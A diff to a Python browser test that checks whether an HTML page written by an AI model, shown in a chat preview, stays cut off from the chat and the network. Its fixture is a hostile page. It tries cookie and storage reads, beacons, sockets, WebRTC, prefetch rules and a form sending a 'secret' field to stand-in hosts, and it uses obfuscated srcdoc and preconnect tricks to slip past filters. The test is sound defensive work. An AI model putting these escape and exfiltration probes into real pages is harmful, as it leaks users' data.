@@ -35,14 +35,23 @@ print()
 """
 
 # Each is tried by a page that a model wrote; it ends with what became of each.
-HOSTILE = """
+HOSTILE = r"""
 ```html
 <link rel="preconnect" href="ADDRESS"><link rel="prefetch" href="ADDRESS/prefetched">
 <link rel="stylesheet" href="ADDRESS/sheet"><img src="ADDRESS/image">
 <style>@font-face { font-family: f; src: url(ADDRESS/font) } p { font-family: f }</style>
 <iframe src="ADDRESS/frame"></iframe><object data="ADDRESS/object"></object>
-<form action="ADDRESS/form"><input name="secret"></form><p>Text</p>
-<script type="module">
+<script type="speculationrules">{"prefetch": [{"urls": ["ADDRESS/speculation"], "eagerness": "immediate"}]}</script>
+<link rel="dns-prefetch" href="ADDRESS"><form action="ADDRESS/form"><input name="secret"></form><p>Text</p>
+<script>(async () => {
+const inFrame = (act) => new Promise((done, fail) => {
+  const frame = document.createElement("iframe");
+  const page = "<script>parent.postMessage(typeof RTCPeerConnection, '*')<\/script>";
+  addEventListener("message", ({ data }) => (data === "function" ? done() : fail()), { once: true });
+  document.body.append(frame);
+  act(frame, page);
+  setTimeout(fail, 300);
+});
 const tries = {
   cookie: () => document.cookie,
   storage: () => localStorage.length,
@@ -50,28 +59,39 @@ const tries = {
   address: () => parent.location.href,
   fetch: () => fetch("ADDRESS/fetched", { mode: "no-cors" }),
   own: () => fetch("/settings/"),
-  beacon: () => navigator.sendBeacon("ADDRESS/beacon", "x") || Promise.reject(),
+  beacon: () => navigator.sendBeacon("ADDRESS/beacon", "x") && Promise.reject(),
   image: () => new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail }).src = "ADDRESS/pixel"),
   script: () => import("ADDRESS/module"),
   socket: () => new Promise((done, fail) => Object.assign(new WebSocket("ws://HOST/"), { onopen: done, onerror: fail })),
   events: () => new Promise((done, fail) => Object.assign(new EventSource("ADDRESS/events"), { onopen: done, onerror: fail })),
   worker: () => new Promise((done, fail) => Object.assign(new Worker("data:text/javascript,postMessage(1)"), { onmessage: done, onerror: fail })),
   window: () => open("ADDRESS/window") ?? Promise.reject(),
-  call: async () => {
-    const line = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] });
-    line.createDataChannel("x");
-    await line.setLocalDescription();
-    await new Promise((done) => (line.onicegatheringstatechange = () => line.iceGatheringState === "complete" && done()));
-    return line.localDescription.sdp.includes("candidate") || Promise.reject();
-  },
+  call: () => RTCPeerConnection,
+  callOfFrame: () => document.body.appendChild(document.createElement("iframe")).contentWindow.RTCPeerConnection,
+  callOfPage: () => inFrame((frame, page) => (frame["src" + "doc"] = page)),
+  callOfAttribute: () => inFrame((frame, page) => frame.setAttribute("src" + "doc", page)),
+  callOfNode: () => inFrame((frame, page) => {
+    const node = document.createAttribute("src" + "doc");
+    node.value = page;
+    frame.setAttributeNode(node);
+  }),
+  callOfMarkup: () => inFrame((frame, page) => (document.body.innerHTML += `<iframe src${"DOC"}="${page}"></iframe>`)),
+  callOfStyles: () => XSLTProcessor,
 };
+const add = (link) => document.head.append(Object.assign(link, { rel: "preconnect", href: "ADDRESS" }));
+add(document.createElement("link"));
+add(document.createElementNS("http://www.w3.org/1999/xhtml", "x:link"));
+document.body.insertAdjacentHTML("beforeend", '<link rel="pre&#99;onnect" href="ADDRESS">');
+const rules = document.createElement("script");
+Object.assign(rules, { type: "speculationrules", textContent: '{"prefetch": [{"urls": ["ADDRESS/rule"], "eagerness": "immediate"}]}' });
+document.head.append(rules);
 const reached = [];
 for (const [name, act] of Object.entries(tries)) {
   try { await act(); reached.push(name); } catch { }
 }
 document.forms[0].submit();
 document.querySelector("p").textContent = `reached: ${reached}`;
-</script>
+})()</script>
 ```
 """
 
@@ -125,9 +145,7 @@ def test_a_page_that_a_model_wrote_reaches_neither_the_chat_nor_the_network(
         chat.ask("Draw it.")
         chat.button("Preview").click()
         expect(drawing(chat).get_by_text("reached:")).to_have_text("reached: ")
-        leave = f"location = 'http://{host}/left'"
-        frame = chat.page.frames[-1]
-        frame.evaluate(leave)
+        chat.page.frames[1].evaluate(f"location = 'http://{host}/left'")
         chat.ask("And now?")
         for one in (listener, datagrams):
             one.setblocking(False)  # noqa: FBT003
